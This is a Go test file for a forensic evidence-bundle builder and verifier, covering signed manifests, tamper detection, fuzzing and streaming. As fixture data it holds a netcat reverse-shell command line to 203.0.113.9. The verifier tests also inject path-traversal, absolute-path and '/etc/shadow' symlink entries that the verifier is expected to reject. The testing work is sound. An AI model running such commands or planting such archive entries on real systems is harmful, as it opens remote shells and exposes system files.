package evidence

import (
	"archive/tar"
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hiddeco/sshsig"
	"golang.org/x/crypto/ssh"
)

type testRecord struct {
	PID     int      `json:"pid"`
	Name    string   `json:"name"`
	Cmdline []string `json:"cmdline"`
}

var testStart = time.Date(2026, 11, 29, 10, 15, 30, 123456789, time.UTC)

func newSigner(t testing.TB) ssh.Signer {
	t.Helper()
	_, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	s, err := ssh.NewSignerFromKey(priv)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func testManifest() Manifest {
	off := int64(-1500)
	return Manifest{
		SnapshotID:    "snap-01",
		OrderID:       "ord-01",
		Incident:      "IR-2026-042",
		Reason:        "beaconing to 203.0.113.9 & <unknown>",
		Host:          Host{Name: "pay-db-01", Hostname: "pay-db-01.internal", MachineID: "0123456789abcdef0123456789abcdef", BootID: "5d7e1c2a-1111-2222-3333-444455556666"},
		AgentVersion:  "0.1.0",
		StartedAt:     testStart,
		ClockOffsetNS: &off,
	}
}

var testRecords = []testRecord{
	{PID: 1, Name: "systemd", Cmdline: []string{"/sbin/init"}},
	{PID: 4242, Name: "nc", Cmdline: []string{"nc", "-e", "/bin/sh", "203.0.113.9", "4444"}},
}

const testRaw = "  sl  local_address rem_address   st\n   0: 0100007F:0277 00000000:0000 0A\n"

// buildTestBundle builds a small valid bundle signed by signer.
func buildTestBundle(t testing.TB, signer ssh.Signer) *Bundle {
	t.Helper()
	b := NewBuilder(testManifest())
	if err := b.AddJSONL("processes", "/proc/[pid]/stat (proc(5))", testRecords, nil); err != nil {
		t.Fatal(err)
	}
	if err := b.AddJSONL("empty", "nothing", nil, []string{"collector failed: permission denied"}); err != nil {
		t.Fatal(err)
	}
	if err := b.AddRaw("/proc/net/tcp", "/proc/net/tcp (proc(5))", []byte(testRaw), nil); err != nil {
		t.Fatal(err)
	}
	bundle, err := b.Finish(signer, testStart.Add(1234*time.Millisecond))
	if err != nil {
		t.Fatal(err)
	}
	return bundle
}

type tarEntry struct {
	hdr  *tar.Header
	data []byte
}

func readEntries(t testing.TB, data []byte) []tarEntry {
	t.Helper()
	zr, err := gzip.NewReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	tr := tar.NewReader(zr)
	var out []tarEntry
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(tr)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, tarEntry{hdr, b})
	}
}

func writeEntries(t testing.TB, entries []tarEntry) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, e := range entries {
		h := *e.hdr
		if h.Typeflag == tar.TypeReg {
			h.Size = int64(len(e.data))
		}
		if err := tw.WriteHeader(&h); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(e.data); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// rewrite decodes data, lets fn change the entries, and encodes them again.
func rewrite(t testing.TB, data []byte, fn func([]tarEntry) []tarEntry) []byte {
	t.Helper()
	return writeEntries(t, fn(readEntries(t, data)))
}

func findEntry(es []tarEntry, name string) *tarEntry {
	for i := range es {
		if es[i].hdr.Name == name {
			return &es[i]
		}
	}
	return nil
}

func regular(name string, data []byte) tarEntry {
	return tarEntry{&tar.Header{Typeflag: tar.TypeReg, Name: name, Mode: 0o444, ModTime: testStart}, data}
}

// resign replaces manifest.json by fn(manifest) and signs it with signer
// in namespace ns.
func resign(t testing.TB, signer ssh.Signer, ns string, fn func(m map[string]any)) func([]tarEntry) []tarEntry {
	return func(es []tarEntry) []tarEntry {
		me := findEntry(es, ManifestPath)
		var m map[string]any
		if err := json.Unmarshal(me.data, &m); err != nil {
			t.Fatal(err)
		}
		fn(m)
		b, err := json.MarshalIndent(m, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		me.data = b
		sig, err := sshsig.Sign(bytes.NewReader(b), signer, sshsig.HashSHA512, ns)
		if err != nil {
			t.Fatal(err)
		}
		findEntry(es, SignaturePath).data = sshsig.Armor(sig)
		return es
	}
}

func TestRoundTrip(t *testing.T) {
	signer := newSigner(t)
	bundle := buildTestBundle(t, signer)

	if want := "cordon-pay-db-01-20261129T101530Z-snap-01.tar.gz"; bundle.FileName != want {
		t.Errorf("FileName = %q, want %q", bundle.FileName, want)
	}
	rep, err := Verify(bytes.NewReader(bundle.Data), VerifyOptions{TrustedKeys: []ssh.PublicKey{signer.PublicKey()}})
	if err != nil {
		t.Fatalf("Verify: %v", err)
	}
	if rep.SignerFingerprint != ssh.FingerprintSHA256(signer.PublicKey()) {
		t.Errorf("SignerFingerprint = %s", rep.SignerFingerprint)
	}
	if rep.Files != 3 {
		t.Errorf("Files = %d, want 3", rep.Files)
	}
	m := rep.Manifest
	if m.FormatVersion != FormatVersion || m.SnapshotID != "snap-01" || m.Reason != testManifest().Reason ||
		!m.StartedAt.Equal(testStart) || !m.FinishedAt.Equal(testStart.Add(1234*time.Millisecond)) ||
		m.ClockOffsetNS == nil || *m.ClockOffsetNS != -1500 || m.AgentKeyFingerprint != rep.SignerFingerprint {
		t.Errorf("manifest = %+v", m)
	}
	want := []struct {
		name, path string
		records    int64
		errs       int
	}{
		{"processes", "artifacts/processes.jsonl", 2, 0},
		{"empty", "artifacts/empty.jsonl", 0, 1},
		{"/proc/net/tcp", "raw/proc/net/tcp", 0, 0},
	}
	if len(m.Artifacts) != len(want) {
		t.Fatalf("artifacts = %+v", m.Artifacts)
	}
	for i, w := range want {
		a := m.Artifacts[i]
		if a.Name != w.name || a.Path != w.path || a.Records != w.records || len(a.Errors) != w.errs || a.Errors == nil {
			t.Errorf("artifact %d = %+v, want %+v", i, a, w)
		}
	}

	es := readEntries(t, bundle.Data)
	var names []string
	for _, e := range es {
		names = append(names, e.hdr.Name)
		h := e.hdr
		if h.Mode != 0o444 || h.Uid != 0 || h.Gid != 0 || h.Uname != "" || h.Gname != "" ||
			!h.ModTime.Equal(testStart.Truncate(time.Second)) || h.Typeflag != tar.TypeReg {
			t.Errorf("%s: header %+v not deterministic", h.Name, h)
		}
	}
	if got := strings.Join(names, " "); got != "manifest.json manifest.json.sig artifacts/processes.jsonl artifacts/empty.jsonl raw/proc/net/tcp" {
		t.Errorf("entries = %s", got)
	}
	// Records decode back, one per line.
	sc := bufio.NewScanner(bytes.NewReader(findEntry(es, "artifacts/processes.jsonl").data))
	var got []testRecord
	for sc.Scan() {
		var r testRecord
		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
			t.Fatal(err)
		}
		got = append(got, r)
	}
	if len(got) != 2 || got[1].Name != "nc" || len(got[1].Cmdline) != 5 {
		t.Errorf("records = %+v", got)
	}
	if string(findEntry(es, "raw/proc/net/tcp").data) != testRaw {
		t.Error("raw file differs")
	}
	// The reason is written as is, not HTML-escaped.
	if !bytes.Contains(findEntry(es, ManifestPath).data, []byte(`& <unknown>`)) {
		t.Errorf("manifest: %s", findEntry(es, ManifestPath).data)
	}
	// The same input gives the same bytes (ed25519 signatures are
	// deterministic).
	if again := buildTestBundle(t, signer); !bytes.Equal(again.Data, bundle.Data) || again.SHA256 != bundle.SHA256 {
		t.Error("building the same bundle twice gave different bytes")
	}
	t.Logf("manifest.json:\n%s", findEntry(es, ManifestPath).data)
}

// TestSSHKeygenVerifies checks the signature with stock OpenSSH, exactly as
// a forensic analyst would.
func TestSSHKeygenVerifies(t *testing.T) {
	keygen, err := exec.LookPath("ssh-keygen")
	if err != nil {
		t.Skip("ssh-keygen not installed")
	}
	signer := newSigner(t)
	bundle := buildTestBundle(t, signer)
	dir := t.TempDir()
	es := readEntries(t, bundle.Data)
	write := func(name string, data []byte) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, data, 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	write(ManifestPath, findEntry(es, ManifestPath).data)
	write(SignaturePath, findEntry(es, SignaturePath).data)
	write("allowed_signers", []byte(AllowedSigners("pay-db-01", signer.PublicKey())+"\n"))
	write("tampered.json", bytes.Replace(findEntry(es, ManifestPath).data, []byte("snap-01"), []byte("snap-02"), 1))

	run := func(manifest string) (string, error) {
		f, err := os.Open(filepath.Join(dir, manifest))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		cmd := exec.Command(keygen, "-Y", "verify", "-f", "allowed_signers", "-I", "pay-db-01",
			"-n", "cordon-evidence", "-s", "manifest.json.sig")
		cmd.Dir = dir
		cmd.Stdin = f
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	out, err := run(ManifestPath)
	if err != nil {
		t.Fatalf("ssh-keygen -Y verify rejected the signature: %v\n%s", err, out)
	}
	t.Logf("ssh-keygen: %s", strings.TrimSpace(out))
	if out, err := run("tampered.json"); err == nil {
		t.Fatalf("ssh-keygen accepted a tampered manifest:\n%s", out)
	}
}

func TestVerifyFailures(t *testing.T) {
	signer, other := newSigner(t), newSigner(t)
	good := buildTestBundle(t, signer).Data
	byOther := buildTestBundle(t, other).Data

	tests := []struct {
		name   string
		data   []byte
		opts   VerifyOptions
		path   string
		reason string
	}{
		{
			name: "artifact byte flipped",
			data: rewrite(t, good, func(es []tarEntry) []tarEntry {
				findEntry(es, "artifacts/processes.jsonl").data[10] ^= 1
				return es
			}),
			path: "artifacts/processes.jsonl", reason: "sha256 mismatch: manifest says ",
		},
		{
			name: "raw file changed length",
			data: rewrite(t, good, func(es []tarEntry) []tarEntry {
				e := findEntry(es, "raw/proc/net/tcp")
				e.data = append(e.data, '\n')
				return es
			}),
			path: "raw/proc/net/tcp", reason: "size mismatch",
		},
		{
			name: "manifest sha256 changed",
			data: rewrite(t, good, func(es []tarEntry) []tarEntry {
				me := findEntry(es, ManifestPath)
				var m Manifest
				if err := json.Unmarshal(me.data, &m); err != nil {
					t.Fatal(err)
				}
				old := m.Artifacts[0].SHA256
				me.data = bytes.Replace(me.data, []byte(old), []byte(strings.Repeat("0", 64)), 1)
				return es
			}),
			path: SignaturePath, reason: "does not verify over manifest.json",
		},
		{
			name: "signed by another key, TrustedKeys set",
			data: byOther,
			opts: VerifyOptions{TrustedKeys: []ssh.PublicKey{signer.PublicKey()}},
			path: SignaturePath, reason: "is not a trusted key",
		},
		{
			name: "signature by another key than agent_key",
			data: rewrite(t, good, func(es []tarEntry) []tarEntry {
				findEntry(es, SignaturePath).data = findEntry(readEntries(t, byOther), SignaturePath).data
				return es
			}),
			path: SignaturePath, reason: "but the manifest's agent_key is",
		},
		{
			name: "wrong namespace",
			data: rewrite(t, good, resign(t, signer, "file", func(map[string]any) {})),
			path: SignaturePath, reason: `namespace "file"`,
		},
		{
			name: "extra file",
			data: rewrite(t, good, func(es []tarEntry) []tarEntry {
				return append(es, regular("artifacts/implant.jsonl", []byte("{}\n")))
			}),
			path: "artifacts/implant.jsonl", reason: "not listed in the manifest",
		},
		{
			name: "missing file",
			data: rewrite(t, good, func(es []tarEntry) []tarEntry {
				return es[:len(es)-1]
			}),
			path: "raw/proc/net/tcp", reason: "missing from the bundle",
		},
		{
			name: "missing signature",
			data: rewrite(t, good, func(es []tarEntry) []tarEntry {
				return append(es[:1], es[2:]...)
			}),
			path: SignaturePath, reason: "missing",
		},
		{
			name: "missing manifest",
			data: rewrite(t, good, func(es []tarEntry) []tarEntry { return es[1:] }),
			path: ManifestPath, reason: "missing",
		},
		{
			name: "truncated gzip",
			data: good[:len(good)-20],
			path: "", reason: "truncated",
		},
		{
			name: "gzip trailer corrupt",
			data: func() []byte {
				b := bytes.Clone(good)
				b[len(b)-6] ^= 0xff // CRC-32
				return b
			}(),
			path: "", reason: "corrupt gzip",
		},
		{
			name: "garbage after gzip",
			data: append(bytes.Clone(good), "hidden data after the bundle"...),
			path: "", reason: "trailing garbage",
		},
		{
			name: "not gzip",
			data: []byte("PK\x03\x04 this is a zip"),
			path: "", reason: "not a gzip stream",
		},
		{
			name: "duplicate entry",
			data: rewrite(t, good, func(es []tarEntry) []tarEntry {
				return append(es, es[len(es)-1])
			}),
			path: "raw/proc/net/tcp", reason: "duplicate entry",
		},
		{
			name: "dot-dot path",
			data: rewrite(t, good, func(es []tarEntry) []tarEntry {
				return append(es, regular("raw/../../etc/cron.d/x", []byte("x")))
			}),
			path: "raw/../../etc/cron.d/x", reason: "unsafe path",
		},
		{
			name: "absolute path",
			data: rewrite(t, good, func(es []tarEntry) []tarEntry {
				return append(es, regular("/etc/passwd", []byte("x")))
			}),
			path: "/etc/passwd", reason: "unsafe path: absolute",
		},
		{
			name: "symlink",
			data: rewrite(t, good, func(es []tarEntry) []tarEntry {
				return append(es, tarEntry{&tar.Header{Typeflag: tar.TypeSymlink, Name: "raw/link", Linkname: "/etc/shadow"}, nil})
			}),
			path: "raw/link", reason: "not a regular file",
		},
		{
			name: "directory",
			data: rewrite(t, good, func(es []tarEntry) []tarEntry {
				return append([]tarEntry{{&tar.Header{Typeflag: tar.TypeDir, Name: "artifacts/", Mode: 0o755}, nil}}, es...)
			}),
			path: "artifacts/", reason: "not a regular file",
		},
		{
			name: "unknown manifest field",
			data: rewrite(t, good, resign(t, signer, Namespace, func(m map[string]any) { m["note"] = "x" })),
			path: ManifestPath, reason: `unknown field "note"`,
		},
		{
			name: "format version 2",
			data: rewrite(t, good, resign(t, signer, Namespace, func(m map[string]any) { m["format_version"] = 2 })),
			path: ManifestPath, reason: "format_version 2",
		},
		{
			name: "fingerprint does not match key",
			data: rewrite(t, good, resign(t, signer, Namespace, func(m map[string]any) {
				m["agent_key_fingerprint"] = ssh.FingerprintSHA256(other.PublicKey())
			})),
			path: ManifestPath, reason: "agent_key_fingerprint",
		},
		{
			name: "agent_key with a comment",
			data: rewrite(t, good, resign(t, signer, Namespace, func(m map[string]any) {
				m["agent_key"] = m["agent_key"].(string) + " root@pay-db-01"
			})),
			path: ManifestPath, reason: "agent_key is not one key",
		},
		{
			name: "manifest lists the signature",
			data: rewrite(t, good, resign(t, signer, Namespace, func(m map[string]any) {
				arts := m["artifacts"].([]any)
				arts[0].(map[string]any)["path"] = SignaturePath
			})),
			path: ManifestPath, reason: "lists manifest.json.sig",
		},
		{
			name: "record count does not match lines",
			data: rewrite(t, good, resign(t, signer, Namespace, func(m map[string]any) {
				m["artifacts"].([]any)[0].(map[string]any)["records"] = 3
			})),
			path: "artifacts/processes.jsonl", reason: "record count mismatch",
		},
		{
			name: "file over size limit",
			data: good,
			opts: VerifyOptions{MaxFileSize: 100},
			path: ManifestPath, reason: "exceeds the limit",
		},
		{
			name: "too many entries",
			data: good,
			opts: VerifyOptions{MaxEntries: 2},
			path: "", reason: "more than 2 entries",
		},
		{
			name: "over total size",
			data: good,
			opts: VerifyOptions{MaxTotalSize: int64(len(findEntry(readEntries(t, good), ManifestPath).data) + len(findEntry(readEntries(t, good), SignaturePath).data) + 1)},
			path: "artifacts/processes.jsonl", reason: "bundle exceeds the limit",
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rep, err := Verify(bytes.NewReader(tc.data), tc.opts)
			if err == nil {
				t.Fatalf("Verify accepted the bundle: %+v", rep)
			}
			var ve *VerifyError
			if !errors.As(err, &ve) {
				t.Fatalf("error %v (%T) is not a *VerifyError", err, err)
			}
			if ve.Path != tc.path || !strings.Contains(ve.Reason, tc.reason) {
				t.Errorf("got %q (path %q), want path %q and reason containing %q", err, ve.Path, tc.path, tc.reason)
			}
			t.Log(err)
		})
	}
}

// TestVerifyRepacked accepts a valid bundle whose entries were reordered,
// as happens when someone unpacks and repacks it.
func TestVerifyRepacked(t *testing.T) {
	signer := newSigner(t)
	data := rewrite(t, buildTestBundle(t, signer).Data, func(es []tarEntry) []tarEntry {
		for i, j := 0, len(es)-1; i < j; i, j = i+1, j-1 {
			es[i], es[j] = es[j], es[i]
		}
		return es
	})
	if _, err := Verify(bytes.NewReader(data), VerifyOptions{}); err != nil {
		t.Fatal(err)
	}
}

func TestBuilderErrors(t *testing.T) {
	signer := newSigner(t)
	t.Run("bad names", func(t *testing.T) {
		b := NewBuilder(testManifest())
		for _, name := range []string{"", "Processes", "../x", "a/b", ".hidden"} {
			if err := b.AddJSONL(name, "", nil, nil); err == nil {
				t.Errorf("AddJSONL(%q) accepted", name)
			}
		}
		for _, p := range []string{"", "/", "proc/../etc/shadow", "proc//net", "proc/./net"} {
			if err := b.AddRaw(p, "", nil, nil); err == nil {
				t.Errorf("AddRaw(%q) accepted", p)
			}
		}
	})
	t.Run("not a slice", func(t *testing.T) {
		if err := NewBuilder(testManifest()).AddJSONL("x", "", testRecords[0], nil); err == nil {
			t.Error("a struct was accepted as records")
		}
	})
	t.Run("unencodable record", func(t *testing.T) {
		if err := NewBuilder(testManifest()).AddJSONL("x", "", []any{1, make(chan int)}, nil); err == nil || !strings.Contains(err.Error(), "record 1") {
			t.Errorf("err = %v", err)
		}
	})
	t.Run("duplicate", func(t *testing.T) {
		b := NewBuilder(testManifest())
		if err := b.AddRaw("/proc/net/tcp", "", nil, nil); err != nil {
			t.Fatal(err)
		}
		if err := b.AddRaw("proc/net/tcp", "", nil, nil); err == nil {
			t.Error("the same raw path was accepted twice")
		}
	})
	t.Run("not ed25519", func(t *testing.T) {
		k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		if err != nil {
			t.Fatal(err)
		}
		s, err := ssh.NewSignerFromKey(k)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := NewBuilder(testManifest()).Finish(s, testStart); err == nil {
			t.Error("an ECDSA signer was accepted")
		}
	})
	t.Run("no start time", func(t *testing.T) {
		if _, err := NewBuilder(Manifest{SnapshotID: "x"}).Finish(signer, testStart); err == nil {
			t.Error("a manifest without started_at was accepted")
		}
	})
	t.Run("changed after add", func(t *testing.T) {
		// Records are encoded when added: changing them later changes
		// nothing.
		b := NewBuilder(testManifest())
		recs := append([]testRecord{}, testRecords...)
		if err := b.AddJSONL("processes", "", recs, nil); err != nil {
			t.Fatal(err)
		}
		recs[0].Name = "changed"
		bundle, err := b.Finish(signer, testStart)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := Verify(bytes.NewReader(bundle.Data), VerifyOptions{}); err != nil {
			t.Fatal(err)
		}
		if es := readEntries(t, bundle.Data); bytes.Contains(findEntry(es, "artifacts/processes.jsonl").data, []byte("changed")) {
			t.Error("a change after AddJSONL reached the bundle")
		}
	})
	t.Run("still open", func(t *testing.T) {
		b := NewBuilder(testManifest())
		if _, err := b.CreateJSONL("open", ""); err != nil {
			t.Fatal(err)
		}
		if _, err := b.Finish(signer, testStart); err == nil || !strings.Contains(err.Error(), "still open") {
			t.Errorf("err = %v", err)
		}
	})
	t.Run("write after close", func(t *testing.T) {
		b := NewBuilder(testManifest())
		w, err := b.CreateJSONL("x", "")
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		if err := w.Encode(testRecords[0]); !errors.Is(err, ErrArtifactClosed) {
			t.Errorf("Encode after Close: %v", err)
		}
		if err := w.Close(); !errors.Is(err, ErrArtifactClosed) {
			t.Errorf("second Close: %v", err)
		}
		if w.Cut("late") {
			t.Error("Cut of a closed artifact reported closing it")
		}
		r, err := b.CreateRaw("/proc/x", "")
		if err != nil {
			t.Fatal(err)
		}
		if err := r.Encode(1); err == nil {
			t.Error("Encode into a raw artifact accepted")
		}
		r.Close()
	})
	t.Run("finish twice", func(t *testing.T) {
		b := NewBuilder(testManifest())
		if _, err := b.Finish(signer, testStart); err != nil {
			t.Fatal(err)
		}
		if _, err := b.Finish(signer, testStart); err == nil {
			t.Error("second Finish accepted")
		}
		if err := b.AddRaw("/x", "", nil, nil); err == nil {
			t.Error("AddRaw after Finish accepted")
		}
	})
}

func TestFileName(t *testing.T) {
	at := time.Date(2026, 11, 29, 11, 15, 30, 999, time.FixedZone("CET", 3600))
	for _, tc := range []struct{ host, id, want string }{
		{"pay-db-01", "s1", "cordon-pay-db-01-20261129T101530Z-s1.tar.gz"},
		{"../etc/x", "a/b c", "cordon-.._etc_x-20261129T101530Z-a_b_c.tar.gz"},
	} {
		if got := FileName(tc.host, at, tc.id); got != tc.want {
			t.Errorf("FileName(%q, %q) = %q, want %q", tc.host, tc.id, got, tc.want)
		}
	}
}

// FuzzVerify feeds Verify arbitrary bytes: it must return (an error or a
// report), never panic or hang.
func FuzzVerify(f *testing.F) {
	signer := newSigner(f)
	good := buildTestBundle(f, signer).Data
	f.Add(good)
	f.Add(good[:len(good)/2])
	f.Add([]byte{})
	f.Add([]byte{0x1f, 0x8b})
	flipped := bytes.Clone(good)
	flipped[len(flipped)/2] ^= 0x40
	f.Add(flipped)
	f.Add(rewrite(f, good, func(es []tarEntry) []tarEntry {
		return append(es, regular("raw/extra", []byte("x")), tarEntry{&tar.Header{Typeflag: tar.TypeSymlink, Name: "l", Linkname: "/"}, nil})
	}))
	f.Add(rewrite(f, good, func(es []tarEntry) []tarEntry {
		findEntry(es, ManifestPath).data = []byte(`{"format_version":1,"agent_key":"ssh-ed25519 AAAA"}`)
		return es
	}))
	f.Add(writeEntries(f, nil))
	f.Fuzz(func(t *testing.T, data []byte) {
		opts := VerifyOptions{MaxEntries: 64, MaxFileSize: 1 << 20, MaxTotalSize: 4 << 20}
		rep, err := Verify(bytes.NewReader(data), opts)
		if err == nil {
			if rep == nil {
				t.Fatal("nil report without error")
			}
			return
		}
		var ve *VerifyError
		if !errors.As(err, &ve) {
			t.Fatalf("error %v (%T) is not a *VerifyError", err, err)
		}
	})
}

// TestStreaming fills artifacts from several goroutines at once, cuts one
// short while it is being written, and checks the bundle verifies, records
// what was cut, and reads back with stock gzip and tar (the bundle is made
// of several gzip members).
func TestStreaming(t *testing.T) {
	signer := newSigner(t)
	b := NewBuilder(testManifest())
	const writers, records = 8, 5000
	ws := make([]*ArtifactWriter, writers)
	for i := range ws {
		w, err := b.CreateJSONL(fmt.Sprintf("part%d", i), "test")
		if err != nil {
			t.Fatal(err)
		}
		ws[i] = w
	}
	raw, err := b.CreateRaw("/proc/net/tcp", "test")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := raw.Write([]byte(testRaw)); err != nil {
		t.Fatal(err)
	}
	if err := raw.Close(); err != nil {
		t.Fatal(err)
	}
	cut, cutDone := make(chan struct{}), make(chan struct{})
	var wg sync.WaitGroup
	for i, w := range ws {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for n := range records {
				if i == 0 && n == records/2 {
					close(cut) // let the main goroutine cut this one
				}
				if err := w.Encode(testRecord{PID: n, Name: "p", Cmdline: []string{"a\nb", "\xff"}}); err != nil {
					if i == 0 && errors.Is(err, ErrArtifactClosed) {
						return
					}
					t.Errorf("writer %d record %d: %v", i, n, err)
					return
				}
			}
			if i == 0 {
				<-cutDone // not cut yet: the main goroutine does it
				return
			}
			w.AddError(fmt.Sprintf("writer %d done", i))
			if err := w.Close(); err != nil {
				t.Error(err)
			}
		}()
	}
	<-cut
	if !ws[0].Cut("cut short: test") {
		t.Error("Cut of an open artifact said it was closed")
	}
	close(cutDone)
	wg.Wait()
	bundle, err := b.Finish(signer, testStart.Add(time.Second))
	if err != nil {
		t.Fatal(err)
	}
	rep, err := Verify(bytes.NewReader(bundle.Data), VerifyOptions{TrustedKeys: []ssh.PublicKey{signer.PublicKey()}})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Files != writers+1 {
		t.Errorf("Files = %d", rep.Files)
	}
	for i, a := range rep.Manifest.Artifacts[:writers] {
		switch {
		case i == 0 && (a.Records < records/2 || a.Records > records || len(a.Errors) != 1 || a.Errors[0] != "cut short: test"):
			t.Errorf("cut artifact = %+v", a)
		case i > 0 && (a.Records != records || len(a.Errors) != 1):
			t.Errorf("artifact %d = %+v", i, a)
		}
	}
	es := readEntries(t, bundle.Data)
	if got := bytes.Count(findEntry(es, "artifacts/part3.jsonl").data, []byte("\n")); got != records {
		t.Errorf("part3 has %d lines", got)
	}
	var rec testRecord
	line, _, _ := bytes.Cut(findEntry(es, "artifacts/part1.jsonl").data, []byte("\n"))
	if err := json.Unmarshal(line, &rec); err != nil || rec.Cmdline[0] != "a\nb" {
		t.Errorf("first record %s: %+v %v", line, rec, err)
	}

	tarBin, err := exec.LookPath("tar")
	if err != nil {
		t.Skip("no tar(1)")
	}
	file := filepath.Join(t.TempDir(), bundle.FileName)
	if err := os.WriteFile(file, bundle.Data, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(tarBin, "-tzf", file).CombinedOutput()
	if err != nil {
		t.Fatalf("tar -tzf: %v\n%s", err, out)
	}
	if names := strings.Fields(string(out)); len(names) != writers+3 || names[0] != ManifestPath || names[len(names)-1] != "raw/proc/net/tcp" {
		t.Errorf("tar -tzf lists %q", names)
	}
	out, err = exec.Command(tarBin, "-xzOf", file, "artifacts/part2.jsonl").Output()
	if err != nil || bytes.Count(out, []byte("\n")) != records {
		t.Errorf("tar -xzOf part2: %d lines, %v", bytes.Count(out, []byte("\n")), err)
	}
	t.Logf("%d artifacts, %d bytes", len(rep.Manifest.Artifacts), len(bundle.Data))
}
